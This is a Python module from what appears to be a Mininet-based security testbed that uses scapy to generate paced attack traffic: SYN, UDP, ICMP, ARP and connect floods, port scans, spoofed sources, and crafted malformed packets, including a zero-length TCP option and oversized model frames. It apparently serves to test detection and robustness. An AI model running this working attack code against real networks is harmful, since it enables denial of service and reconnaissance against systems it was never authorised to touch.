"""Traffic anomalies crafted with scapy and sent at a paced rate from inside an attacker host.

Packets are built once by :func:`build_packets` (pure, testable without sending), turned into
bytes, and replayed through scapy's layer-2 socket at ``rate_pps``, so the sender's cost is a
system call per packet, not a scapy build. The process runs in the attacker's Mininet host::

    python -m attacks.traffic --iface d1h1-eth0 --spec SPEC_JSON --duration 60 --report FILE

and stops at ``--duration`` or on SIGTERM (the runner ends it on schedule), appending one JSON
line with what it sent to ``FILE``.
"""

from __future__ import annotations

import argparse
import json
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from attacks.plan import KINDS, TRAFFIC
from common.description import HostSpec

TRAFFIC_KINDS = tuple(kind for kind, (category, _fields) in KINDS.items() if category == TRAFFIC)
"""The plan's traffic kinds (:data:`attacks.plan.KINDS`): one list, the scenario's."""
SEGMENT_BYTES = 1400
"""Payload per TCP segment of a crafted model frame (within the hosts' 1500-byte MTU)."""
CRAFTED_COPIES = 4
"""Each crafted model frame goes out on this many connections (source ports): evidence for each."""
DISCARD_PORT = 9
MAX_DISTINCT_PACKETS = 4096
"""Packets built up front; a flood cycles through them (a scan covers its ports in order)."""
SPOOF_NETWORK = (10 << 24, 1 << 24)
"""Spoofed sources are drawn from 10.0.0.0/8, addresses that look like the testbed's own."""


@dataclass(frozen=True)
class TrafficSpec:
    """Everything one attacker process needs: who sends what to whom, how fast."""

    kind: str
    src_mac: str
    src_ip: str
    dst_mac: str
    dst_ip: str
    rate_pps: float
    seed: int = 0
    spoof: bool = False
    dst_port: int = 0
    payload_bytes: int = 0
    first_port: int = 1
    last_port: int = 1024
    icmp_type: int = 8
    packets: tuple[str, ...] = ()
    sender: str = ""
    shapes: tuple[tuple[int, ...], ...] = ()
    """The run's model shapes: a crafted model frame is otherwise a real one."""

    @classmethod
    def from_attack(cls, kind: str, params: dict, attacker: HostSpec, victim: HostSpec, seed: int,
                    shapes: tuple[tuple[int, ...], ...] = ()) -> TrafficSpec:
        """A spec from a resolved attack's params and the two hosts of the description."""
        known = {k: params[k] for k in ("spoof", "dst_port", "payload_bytes", "first_port", "last_port", "icmp_type")
                 if k in params}
        return cls(kind, attacker.mac, attacker.ip, victim.mac, victim.ip, params["rate_pps"],
                   seed, **known, packets=tuple(params.get("packets", ())), sender=attacker.name,
                   shapes=tuple(tuple(s) for s in shapes))

    @classmethod
    def from_json(cls, text: str) -> TrafficSpec:
        fields = json.loads(text)
        return cls(**{**fields, "packets": tuple(fields.get("packets", ())),
                      "shapes": tuple(tuple(s) for s in fields.get("shapes", ()))})


def _random_ip(rng: np.random.Generator) -> str:
    value = SPOOF_NETWORK[0] + int(rng.integers(1, SPOOF_NETWORK[1] - 1))
    return ".".join(str((value >> shift) & 0xFF) for shift in (24, 16, 8, 0))


def build_packets(spec: TrafficSpec, count: int | None = None) -> list:
    """The scapy packets the attack cycles through (deterministic under ``spec.seed``).

    A SYN flood varies source port and sequence number (every SYN a new half-open connection);
    a UDP flood is one fat flow to the discard port; an ICMP flood is echo requests with rising
    sequence numbers; a scan sends one SYN per port. With ``spoof``, each packet carries a random
    source address from 10.0.0.0/8 (the attacker's MAC stays: it is its own switch port).
    """
    from scapy.layers.inet import ICMP, IP, TCP, UDP
    from scapy.layers.l2 import ARP, Ether
    from scapy.packet import Raw

    if spec.kind not in TRAFFIC_KINDS:
        raise ValueError(f"unknown traffic attack {spec.kind!r}; known: {', '.join(TRAFFIC_KINDS)}")
    if spec.kind == "crafted":
        return [packet for name in spec.packets for packet in crafted_packets(spec, name)]
    if spec.kind == "connect-flood":
        raise ValueError("a connect flood opens real connections: see connect_paced")
    rng = np.random.default_rng([spec.seed, 0x7AFF1C])
    if spec.kind == "port-scan":
        ports = list(range(spec.first_port, spec.last_port + 1))[:MAX_DISTINCT_PACKETS]
        count = len(ports) if count is None else count
    else:
        count = (1 if spec.kind == "udp-flood" and not spec.spoof else 256) if count is None else count
    payload = Raw(bytes(rng.integers(0, 256, spec.payload_bytes, dtype=np.uint8))) if spec.payload_bytes else None
    udp_source = int(rng.integers(1024, 65536))
    packets = []
    for i in range(count):
        source = _random_ip(rng) if spec.spoof else spec.src_ip
        ip = Ether(src=spec.src_mac, dst=spec.dst_mac) / IP(src=source, dst=spec.dst_ip, id=i & 0xFFFF)
        if spec.kind == "syn-flood":
            packet = ip / TCP(sport=int(rng.integers(1024, 65536)), dport=spec.dst_port, flags="S",
                              seq=int(rng.integers(0, 2**32)))
        elif spec.kind == "udp-flood":
            packet = ip / UDP(sport=udp_source, dport=DISCARD_PORT)
        elif spec.kind == "icmp-flood":
            packet = ip / ICMP(type=spec.icmp_type, id=udp_source, seq=i & 0xFFFF)
        elif spec.kind == "arp-flood":  # requests in the sender's own name, for every address of the subnet
            target = spec.dst_ip.rsplit(".", 1)[0] + f".{1 + i % 254}"
            packet = Ether(src=spec.src_mac, dst="ff:ff:ff:ff:ff:ff") / ARP(
                op=1, hwsrc=spec.src_mac, psrc=spec.src_ip, pdst=target)
        else:
            packet = ip / TCP(sport=udp_source, dport=ports[i % len(ports)], flags="S",
                              seq=int(rng.integers(0, 2**32)))
        if payload is not None and spec.kind in ("udp-flood", "icmp-flood"):
            packet = packet / payload
        packets.append(packet)
    return packets


def crafted_packets(spec: TrafficSpec, name: str) -> list:
    """The packets of one crafted attempt (see :data:`attacks.plan.CRAFTED`)."""
    from scapy.layers.inet import IP, TCP, UDP
    from scapy.layers.l2 import Dot1Q, Ether
    from scapy.packet import Raw

    from agents.wire import ModelFrame, encode

    ether = Ether(src=spec.src_mac, dst=spec.dst_mac)
    ip = IP(src=spec.src_ip, dst=spec.dst_ip)
    if name == "tcp-zero-length-option":
        syn = bytearray(bytes(ether / ip / TCP(sport=40001, dport=spec.dst_port, flags="S",
                                               options=[(99, b"")])))
        syn[-3] = 0  # option 99's length byte: zero, which no length-driven parser may loop on
        return [bytes(syn)]
    if name == "vxlan":
        return [ether / ip / UDP(sport=40002, dport=4789) / Raw(b"\x01" * 8)]
    if name in ("tcp-179", "tcp-6653"):
        return [ether / ip / TCP(sport=40003, dport=int(name[4:]), flags="PA") / Raw(b"\xff" * 19 + b"\x04" * 21)]
    if name in ("vlan-100", "vlan-0"):
        return [ether / Dot1Q(vlan=int(name[5:])) / ip / UDP(sport=40004, dport=9) / Raw(b"tagged")]
    if name == "empty-model-frame":
        frame, ip = ModelFrame(spec.sender, 1, 10, ()), IP(src=spec.src_ip, dst=spec.dst_ip.rsplit(".", 1)[0] + ".250")
    else:
        frame = ModelFrame(spec.sender, 4_000_000_000, 10, tuple(np.zeros(s, np.float32) for s in spec.shapes))
    data = encode(frame)
    return [ether / ip / TCP(sport=41000 + copy, dport=spec.dst_port, seq=1 + at, flags="PA") / Raw(data[at:at + SEGMENT_BYTES])
            for copy in range(CRAFTED_COPIES) for at in range(0, len(data), SEGMENT_BYTES)]


@dataclass
class SendReport:
    packets: int = 0
    bytes: int = 0
    started: float = 0.0
    stopped: float = 0.0


def send_paced(send: Callable[[bytes], object], frames: list[bytes], rate_pps: float, duration_s: float,
               stop: threading.Event, clock: Callable[[], float] = time.monotonic,
               sleep: Callable[[float], None] = time.sleep) -> SendReport:
    """Send ``frames`` in a cycle at ``rate_pps`` until ``duration_s`` passed or ``stop`` is set.

    Pacing is by schedule, not by sleeping a fixed gap: after a stall the sender catches up at
    most one burst (``rate/100`` packets), so the long-run rate is the asked one.
    """
    report = SendReport(started=time.time())
    began = clock()
    burst = max(1, int(rate_pps / 100))
    index = 0
    while not stop.is_set():
        elapsed = clock() - began
        if elapsed >= duration_s:
            break
        due = min(int(elapsed * rate_pps) + 1 - report.packets, burst)
        if due <= 0:
            sleep(min(0.01, (report.packets - elapsed * rate_pps) / rate_pps))
            continue
        for _ in range(due):
            frame = frames[index % len(frames)]
            send(frame)
            index += 1
            report.packets += 1
            report.bytes += len(frame)
    report.stopped = time.time()
    return report


def connect_once(ip: str, port: int) -> None:
    """One plain TCP connect that is closed at once (the victim's answers are replies)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(0.2)
        try:
            sock.connect((ip, port))
        except OSError:
            pass


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="attacks.traffic", description=__doc__.splitlines()[0])
    parser.add_argument("--iface", required=True, help="the attacker host's interface")
    parser.add_argument("--spec", required=True, help="TrafficSpec as JSON")
    parser.add_argument("--duration", type=float, required=True, help="upper bound on seconds of sending")
    parser.add_argument("--report", type=Path, required=True, help="JSON-lines file to append the totals to")
    args = parser.parse_args(argv)
    try:
        spec = TrafficSpec.from_json(args.spec)
    except (TypeError, ValueError) as error:
        parser.error(f"--spec: {error}")
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    if spec.kind == "connect-flood":
        report = send_paced(lambda _: connect_once(spec.dst_ip, spec.dst_port), [b""], spec.rate_pps,
                            args.duration, stop)
    else:
        from scapy.config import conf

        frames = [bytes(p) for p in build_packets(spec)]
        sock = conf.L2socket(iface=args.iface)
        try:
            report = send_paced(sock.send, frames, spec.rate_pps, args.duration, stop)
        finally:
            sock.close()
    from common.events import Event, event
    from common.jsonl import JsonLinesWriter

    with JsonLinesWriter(args.report) as out:
        out.write(event(Event.TRAFFIC_SENT, time.time(), kind=spec.kind, src_ip=spec.src_ip, dst_ip=spec.dst_ip,
                        rate_pps=spec.rate_pps, **vars(report)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
